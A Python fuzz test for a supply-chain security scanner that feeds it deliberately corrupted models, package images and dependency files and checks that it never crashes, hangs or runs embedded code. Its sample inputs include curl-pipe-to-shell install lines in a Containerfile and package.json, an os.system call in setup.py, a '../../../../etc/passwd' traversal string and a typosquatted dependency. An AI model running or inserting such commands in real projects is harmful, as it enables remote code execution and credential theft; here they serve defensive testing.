"""Broken and hostile files for the scanner: none may raise, hang, run, or be called clean if cut off.

Each draw damages a real file (a model, a package database, an image, a file of dependencies): bytes are
changed, cut, repeated, or replaced by NULs and invalid UTF-8; then it goes through the code that users run.
"""

import json
import random
import resource
import shutil
import signal
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable, Iterator, Mapping
from functools import partial
from pathlib import Path
from types import FrameType
from typing import Any

_ROOT = Path(__file__).resolve().parents[2]
sys.path.insert(0, str(_ROOT / "tests/extension"))

import model_zoo as zoo  # noqa: E402
import package_images as images  # noqa: E402

import gipfel_extension.gate as gate  # noqa: E402
from gipfel_extension.gate.scan.targets import scan_targets  # noqa: E402

#: Draws of a cell; 100 cells are 100 000 files.
DRAWS = 1000
_CELLS = 100
MEASURED = [Path(gate.__file__).parent]
#: Payloads of the zoo write this file when one of them runs.
CANARY = Path("/tmp/gipfel-gate-canary")
_MOST_MIB = 500
#: Seconds that one small file may take, on a machine that is busy with other tests.
LONGEST_S = 30.0
_PIECES = (
    b"\0" * 64,
    b"\xff\xfe\xed\xa0\x80",
    b"\xff" * 8,
    b"PK\x05\x06",
    b"\n\n",
    b"9" * 40,
    b"../../../../etc/passwd",
    # Half of a surrogate pair, which JSON may hold and no output can carry.
    b"\\ud800",
)


def good_files(folder: Path) -> dict[str, bytes]:
    """A file of each kind that the scanner reads, by path."""
    files = {name: content for name, (content, _) in {**zoo.BENIGN, **zoo.HOSTILE}.items() if "/" not in name}
    for make in (images.debian, images.alpine, images.rocky):
        root = make(folder / make.__name__)
        files |= {
            f"{make.__name__}/{path.relative_to(root)}": path.read_bytes()
            for path in root.rglob("*")
            if path.is_file()
        }
    layer = {"etc/os-release": b"ID=debian\nVERSION_ID=12\n", "srv/model.pkl": zoo.SYSTEM}
    files["image.tar"] = images.oci_archive(
        folder / "image.tar", [layer, {"srv/.wh.model.pkl": b""}]
    ).read_bytes()
    if shutil.which("mksquashfs"):
        command = ["mksquashfs", str(folder / "debian"), str(folder / "image.sqsh"), "-quiet", "-no-progress"]
        subprocess.run(command, check=True)
        files["image.sqsh"] = (folder / "image.sqsh").read_bytes()
    files["requirements.txt"] = b"--extra-index-url https://a\ntorch==1 --hash=sha256:aa\n"
    files["uv.lock"] = b'[[package]]\nname = "x"\nsource = { registry = "https://a" }\n'
    files["Containerfile"] = b"FROM debian:12\nRUN curl https://a | sh\n"
    files["package.json"] = b'{"scripts": {"install": "curl https://a | sh"}}'
    files["package-lock.json"] = b'{"packages": {"node_modules/x": {"resolved": "http://a/x.tgz"}}}'
    files["pyproject.toml"] = (
        b'[project]\ndependencies = ["torhc"]\n[tool.uv]\nextra-index-url = ["http://a"]\n'
    )
    files["setup.py"] = b"import os\nfrom setuptools import setup\nos.system('make')\nsetup(cmdclass={})\n"
    files["pip.conf"] = b"[global]\nextra-index-url = http://a\n"
    files["name.setup"] = b"pip install -r a.txt numpy==1.0 --no-binary :all:\n"
    system = {"type": "operating-system", "name": "debian", "version": "12"}
    listed = [system, {"purl": "pkg:deb/debian/bash@5.2?distro=debian-12"}, {"purl": "pkg:pypi/x@1"}]
    files["bom.json"] = json.dumps({"bomFormat": "CycloneDX", "components": listed}).encode()
    return files


def damaged(content: bytes, draw: random.Random) -> bytes:
    """Return a file with one to four damages."""
    changed = bytearray(content)
    for _ in range(draw.randrange(1, 5)):
        at = draw.randrange(len(changed) + 1)
        kind = draw.randrange(5)
        if kind == 0:
            del changed[at:]
        elif kind == 1:
            changed[at : at + 4] = draw.randbytes(4)
        elif kind == 2:
            changed[at:at] = draw.choice(_PIECES)
        elif kind == 3:
            changed[at : at + 8] = (draw.choice((0, 1, 1 << 31, 1 << 63)) & (1 << 64) - 1).to_bytes(
                8, "little"
            )
        else:
            changed[at:at] = changed[max(0, at - 200) : at] * draw.randrange(1, 20)
    return bytes(changed)


def scan_damaged(
    files: dict[str, bytes], folder: Path, *, seed: int, draws: int, advisories: Path | None = None
) -> Iterator[tuple[str, str]]:
    """Yield name and what went wrong of each scan that raised or took too long.

    Parameters
    ----------
    files
        Good files by the path that each has below a scanned directory; a path without a directory is scanned
        as a target of its own.
    """
    draw = random.Random(seed)
    names = sorted(files)
    limited = signal.getsignal(signal.SIGALRM) is _too_long
    for number in range(draws):
        name = draw.choice(names)
        root = folder / str(number)
        path = root / name
        path.parent.mkdir(parents=True)
        path.write_bytes(damaged(files[name], draw))
        started = time.monotonic()
        signal.setitimer(signal.ITIMER_REAL, 2 * LONGEST_S if limited else 0)
        try:
            target = root if "/" in name else path
            document = scan_targets([target], advisories=advisories, max_age_s=1e9)
            document.model_dump_json()
        except Exception as error:
            yield f"{number} {name}", f"{type(error).__name__}: {error}"
        signal.setitimer(signal.ITIMER_REAL, 0)
        shutil.rmtree(root)
        if time.monotonic() - started > LONGEST_S:
            yield f"{number} {name}", f"took {time.monotonic() - started:.0f} s"


def cells(seed: int, draws: int) -> dict[str, Callable[[], dict[str, Any]]]:
    """Return the cells, each with its own draws."""
    return {f"files-{number:03}": partial(measure, seed * 1000 + number, draws) for number in range(_CELLS)}


def measure(seed: int, draws: int) -> dict[str, Any]:
    """Scan damaged files; count those that raised, hung, or ran."""
    CANARY.unlink(missing_ok=True)
    signal.signal(signal.SIGALRM, _too_long)
    with tempfile.TemporaryDirectory() as name:
        folder = Path(name)
        osv = images.mirror(folder / "osv", images.advisory("A", "PyPI", "x", {"introduced": "0"}))
        files = good_files(folder / "good")
        wrong = list(scan_damaged(files, folder / "draws", seed=seed, draws=draws, advisories=osv))
    return {
        "draws": draws,
        "wrong": wrong,
        "ran": CANARY.exists(),
        "mib": resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024,
    }


def _too_long(_number: int, _frame: FrameType | None) -> None:
    raise TimeoutError("the scan hangs")


def line(document: Mapping[str, Any]) -> str:
    """Return the result of a cell as a line."""
    first = f", first: {document['wrong'][0]}" if document["wrong"] else ""
    return f"{len(document['wrong'])} of {document['draws']} wrong, {document['mib']} MiB{first}"


def summary(documents: Mapping[str, Any]) -> list[dict[str, Any]]:
    """Return how many files were scanned without a traceback, a hang, or code that ran."""
    draws = sum(each["draws"] for each in documents.values())
    wrong = sum(len(each["wrong"]) for each in documents.values())
    ran = sum(each["ran"] for each in documents.values())
    most = max((each["mib"] for each in documents.values()), default=0)
    return [
        _row("scanning: damaged files with a traceback or a hang", wrong, draws, "files", 0),
        _row("scanning: cells in which code of a file ran", ran, len(documents), "cells", 0),
        _row("scanning: memory of the process", most, _MOST_MIB, "MiB", 1),
    ]


def _row(name: str, ours: float, peer: float, unit: str, bound: float) -> dict[str, Any]:
    ratio = ours / peer if peer else 0.0
    return {
        "name": name, "ours": ours, "peer": peer, "unit": unit, "ratio": ratio, "bound": bound,
        "holds": ratio <= bound,
    }  # fmt: skip
